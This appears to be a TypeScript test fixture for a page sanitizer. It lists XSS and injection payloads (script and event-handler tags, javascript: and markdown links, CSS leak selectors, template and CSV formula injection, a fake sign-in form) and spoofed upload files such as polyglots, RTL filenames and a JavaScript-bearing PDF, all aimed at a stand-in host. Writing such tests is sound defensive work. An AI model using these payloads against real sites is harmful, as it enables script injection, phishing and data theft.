/** A host that must never receive a request. */
export const FOREIGN = 'corpus.example';
/** The function that must never run; pages under watch define it. */
export const RAN = 'corpusRan';

const run = `${RAN}(1)`;
const there = `http://${FOREIGN}`;

/**
 * Attacks, and texts that merely look like one. Each carries a mark, so that a test can check whether a page shows it
 * at all.
 */
const texts: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="${there}/a.js"></script>`,
  `"><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</textarea></title></style><img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `"><img src=x onerror=${run}>`,
  `' autofocus onfocus='${run}' x='`,
  `<svg onload=${run}><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">click</math>`,
  `<details open ontoggle=${run}><summary>more</summary></details>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<template><img src=x onerror=${run}></template>`,
  `<video src="${there}/v.mp4" poster="${there}/p.png" onloadstart=${run} autoplay></video>`,
  `<audio src="${there}/a.mp3" autoplay onerror=${run}></audio>`,
  `<img src="${there}/pixel.gif" srcset="${there}/pixel2.gif 2x">`,
  `<picture><source srcset="${there}/s.png"><img src="${there}/i.png"></picture>`,
  `<input type="image" src="${there}/button.png" formaction="${there}/form">`,
  `<table background="${there}/bg.png"><tr><td style="background:url(${there}/td.png)">cell</td></tr></table>`,
  `<p style="background-image:url('${there}/css.png');position:fixed;inset:0;z-index:99999">over all</p>`,
  `<style>@import url("${there}/style.css"); input[value^=a]{background:url(${there}/leak)}</style>`,
  `<link rel="stylesheet" href="${there}/link.css"><link rel="prefetch" href="${there}/pre">`,
  `<base href="${there}/">`,
  `<meta http-equiv="refresh" content="0;url=${there}/refresh">`,
  `<iframe src="${there}/frame"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="${there}/o.swf"></object><embed src="${there}/e.swf">`,
  `<form action="${there}/form" method="post"><input name="a" value="b"><button>Sign in again</button></form>`,
  `<a href="javascript:${run}">click</a>`,
  `<a href="&#106;ava&#115;cript&colon;${run}">click</a>`,
  `<a href="java\tscript:${run}">click</a>`,
  `<a href="data:text/html,<script>${run}</script>">click</a>`,
  `<a href="https://${FOREIGN}/safe" ping="${there}/ping" onclick=${run} target=_blank>click</a>`,
  `<a href="//${FOREIGN}/x" id="__proto__" name="location">clobber</a>`,
  `[click](javascript:${run})`,
  `[click](  JaVaScRiPt:${run})`,
  `[click](data:text/html;base64,PHNjcmlwdD5jb3JwdXNSYW4oMSk8L3NjcmlwdD4=)`,
  `[click](vbscript:${run})`,
  `[click][ref]\n\n[ref]: javascript:${run} "title"`,
  `![picture](${there}/markdown.png)`,
  `![picture](javascript:${run})`,
  `<javascript:${run}>`,
  `[a](<https://${FOREIGN}/" onmouseover="${run}>)`,
  `https://${FOREIGN}/"onmouseover="${run}`,
  '```html\n</code></pre><img src=x onerror=' + run + '>\n```',
  `&lt;img src=x onerror=${run}&gt; %3Cscript%3E${run}%3C/script%3E`,
  `\u003cimg src=x onerror=${run}\u003e \uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `{{constructor.constructor('${run}')()}} \${${run}} #{${run}} <%= ${run} %> {% ${run} %}`,
  `\u202egnp.exe\u202c \u200b\u200f\u2066mixed\u2069 \ufeff`,
  `=HYPERLINK("${there}/csv","click") @SUM(1+1) +1 -1`,
  `Z\u0335\u0321\u031b`.repeat(200),
  'w'.repeat(4_000),
  '> '.repeat(500) + 'deep',
  '['.repeat(2_000),
];

export const payloads: readonly { mark: string; text: string }[] = texts.map((text, index) => ({
  mark: `zq${index}zq`,
  text: `zq${index}zq ${text}`,
}));

const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script><image href="${there}/svg.png"/></svg>`;
const html = `<!doctype html><script>${run}</script><img src="${there}/html.png">`;

/** Polyglot files and files with a false type, under names that contain markup. */
export const files: readonly { name: string; type: string; content: string }[] = [
  { name: `"><img src=x onerror=${run}>.svg`, type: 'image/svg+xml', content: svg },
  { name: 'photo\u202egnp.exe.png', type: 'image/png', content: svg },
  { name: 'page.html', type: 'text/html', content: html },
  { name: '../../../<script>.html.png', type: 'image/png', content: html },
  { name: 'both.gif', type: 'image/gif', content: `GIF89a/*<svg/onload=${run}>*/=1;${html}` },
  {
    name: `x' onclick='${run}.xml`,
    type: 'text/xml',
    content: `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  },
  {
    name: 'paper.pdf',
    type: 'application/pdf',
    content: `%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj ${html}`,
  },
  { name: 'tune.mp3', type: 'audio/mpeg', content: html },
  { name: `${'n'.repeat(250)}.js`, type: 'text/javascript', content: run },
];
